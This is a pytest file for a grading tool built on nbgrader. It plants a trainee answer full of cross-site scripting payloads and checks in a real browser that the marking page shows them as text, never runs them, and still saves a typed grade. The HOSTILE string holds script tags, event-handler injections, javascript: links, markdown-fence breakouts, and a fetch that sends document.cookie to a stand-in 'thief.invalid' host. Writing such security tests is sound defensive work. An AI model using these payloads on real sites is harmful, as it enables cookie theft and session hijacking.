"""nbgrader's marking page in a real browser: what a trainee wrote is shown there and never runs."""

import os
import secrets
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request

import pytest
from sqlalchemy import select

from grader import clock
from grader.course.audit import verify
from grader.course.formgrader import notebooks
from grader.course.grading import mark_class, written_answers
from grader.course.submissions import collect
from grader.records import database, ledger, schema
from grader.records.gradebook import gradebook
from tests.work import issue_of, put_in_inbox, right_answers, sheet_of

MODULE, PATH = "m01_timing", "m01.letter.text"
HOSTILE = """Dear customer
<script>window.ran = "script"; alert(1)</script>
<img src=x onerror="window.ran = 'image'; fetch('http://thief.invalid/' + document.cookie)">
<svg onload="window.ran = 'svg'"></svg> <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
[press here](javascript:window.ran='link') <a href="javascript:window.ran='a'" onmouseover="window.ran='over'">x</a>
```
</code></pre><script>window.ran = "fence"</script>
```
````
</code></pre><img src=x onerror="window.ran='long fence'">
````
$$\\href{javascript:window.ran='tex'}{press}$$ <!-- --><script>window.ran = "comment"</script> -->
<form action="http://thief.invalid/"><button autofocus onfocus="window.ran='focus'">go</button></form>
<style>@import url(http://thief.invalid/style.css);</style> <math><mtext><script>window.ran="math"</script></mtext></math>
"""


@pytest.fixture
def marked(assigned_term, m01):
    record = issue_of(assigned_term, "t01")
    path = put_in_inbox(assigned_term, sheet_of(record, {**right_answers(m01, record), PATH: HOSTILE}))
    collect.collect(assigned_term, [path.parent], received_at=clock.parse("2026-03-30 12:00", "UTC"))
    assert mark_class.mark(assigned_term, MODULE).marked == 1
    assert notebooks.write_class(assigned_term, MODULE) == (1, [])
    return assigned_term


@pytest.fixture
def page_of(marked, browser, tmp_path):
    """The marking page of the hand-in on a server over the term folder; and everything it said and asked for."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    token = secrets.token_hex(16)
    env = {**os.environ, "HOME": str(tmp_path), "JUPYTER_CONFIG_DIR": str(tmp_path / "config"), "JUPYTER_TOKEN": token}
    command = [
        sys.executable, "-m", "jupyter_server", "--no-browser", "--ServerApp.ip=127.0.0.1", f"--ServerApp.port={port}",
        "--ServerApp.port_retries=0", f"--ServerApp.root_dir={marked.folder}", "--allow-root",
    ]  # fmt: skip
    with open(tmp_path / "server.log", "wb") as log:
        server = subprocess.Popen(command, cwd=marked.folder, env=env, stdout=log, stderr=log)
    context = browser.new_context()
    try:
        address = f"http://127.0.0.1:{port}"
        _wait(f"{address}/api?token={token}", server, tmp_path / "server.log")
        page = context.new_page()
        page.goto(f"{address}/login?token={token}")
        heard = {"dialogs": [], "asked": []}
        page.on("dialog", lambda dialog: (heard["dialogs"].append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: heard["asked"].append(request.url))
        with gradebook._nbgrader() as api, api.Gradebook(marked.database_url) as book:
            work = book.find_submission_notebook(MODULE, MODULE, "t01").id
        page.goto(f"{address}/formgrader/submissions/{work}/")
        yield page, heard
    finally:
        context.close()
        server.terminate()
        server.wait(20)


def _wait(url, server, log):
    until = time.monotonic() + 60
    while True:
        try:
            urllib.request.urlopen(url, timeout=5).close()
            return
        except urllib.error.HTTPError:  # it answers
            return
        except OSError:
            assert server.poll() is None and time.monotonic() < until, log.read_text(errors="replace")[-2000:]
            time.sleep(0.2)


def test_a_hostile_letter_is_shown_and_does_nothing_and_a_mark_typed_there_is_taken_over(page_of, marked):
    page, heard = page_of
    page.wait_for_selector("input.score")
    shown = page.locator("body").inner_text()
    for words in ("Dear customer", 'window.ran = "fence"', "onerror=", "press here"):
        assert words in shown, "the instructor reads all that was written"
    for element in page.locator("text=press here").all():
        element.hover()
    page.wait_for_timeout(1000)
    assert heard["dialogs"] == []
    assert page.evaluate("window.ran") is None
    assert [url for url in heard["asked"] if "thief" in url] == []

    box = page.locator("#letter")
    box.fill("1.5")
    with page.expect_response(lambda response: "/api/grade/" in response.url and response.request.method == "PUT"):
        box.press("Tab")
    run = mark_class.mark(marked, MODULE)
    assert run.findings == []
    with database.transaction(marked) as connection:
        mark = connection.execute(select(schema.mark)).one()
        [(_, _, entry)] = ledger.entries(connection, "override")
    assert (mark.state, mark.mark) == ("marked", 2950)
    assert (entry["actor"], entry["exercise"], entry["new"]) == ("formgrader", "m01.letter", 150)
    assert written_answers.answers(marked, MODULE) == [] and verify.verify(marked).findings == []
